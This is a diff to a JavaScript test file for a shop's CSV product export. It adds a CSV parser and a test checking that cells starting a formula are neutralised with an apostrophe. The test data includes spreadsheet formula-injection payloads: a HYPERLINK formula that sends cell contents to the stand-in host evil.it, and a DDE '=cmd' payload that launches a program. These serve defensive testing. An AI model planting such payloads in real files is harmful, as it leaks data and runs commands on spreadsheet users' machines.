@@ -29,6 +29,37 @@ const product = (id, extra = {}) => ({
   ...extra,
 });
 
+/** RFC 4180 reader (quoted fields, doubled quotes, CRLF or LF records), to read the
+ * export back as a spreadsheet would; the trailing empty record is dropped. */
+function parseCsv(text, sep) {
+  const rows = [];
+  let row = [];
+  let field = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"' && field === "") quoted = true;
+    else if (c === sep) {
+      row.push(field);
+      field = "";
+    } else if (c === "\n" || (c === "\r" && text[i + 1] === "\n")) {
+      if (c === "\r") i++;
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = "";
+    } else field += c;
+  }
+  if (field !== "" || row.length) rows.push([...row, field]);
+  return rows;
+}
+
 const catalogue = () => [
   product(1, { name: "Cemento Portland 32,5 R", brand: "Buzzi", category: "Cementi", price: 6.9, description: "Sacco da 25 kg" }),
   product(2, { name: "Lastra cartongesso", brand: "Knauf", category: "Cartongesso", price: 8.4, in_stock: false }),
@@ -150,6 +181,23 @@ describe("CSV export (spec section 3)", () => {
     assert.equal(lines[2], '"Sacco";"0";"";"";"";"no"');
     assert.equal(lines[3], "");
     assert.equal(lines.length, 4);
+  });
+  test("read back by a CSV parser, no cell starts a formula: an apostrophe keeps it text", () => {
+    const names = ["-20% sconto", '=HYPERLINK("http://evil.it/?"&A1;"Clicca")', "+39 06 1234567", "@SUM(A1)", "\tTab", "\uFF1D1+1"];
+    const csv = l.productsToCsv(names.map((name, i) => product(i + 1, { name, brand: "=cmd|' /C calc'!A0", price: 0 })));
+    const rows = parseCsv(csv, ";");
+    assert.deepEqual(rows[0], ["name", "price", "description", "brand", "category", "in_stock"]);
+    assert.deepEqual(
+      rows.slice(1).map((r) => r[0]),
+      names.map((n) => `'${n}`),
+    );
+    for (const row of rows.slice(1)) {
+      assert.equal(row[3], "'=cmd|' /C calc'!A0");
+      assert.equal(row[1], "0");
+      for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
+    }
+    // Ordinary text is untouched.
+    assert.equal(parseCsv(l.productsToCsv([product(1, { name: "Cemento - 25 kg" })]), ";")[1][0], "Cemento - 25 kg");
   });
   test("prices keep at most two decimals", () => {
     assert.match(l.productsToCsv([product(1, { price: 1.005 + 2 })]), /"3.01"|"3"/);
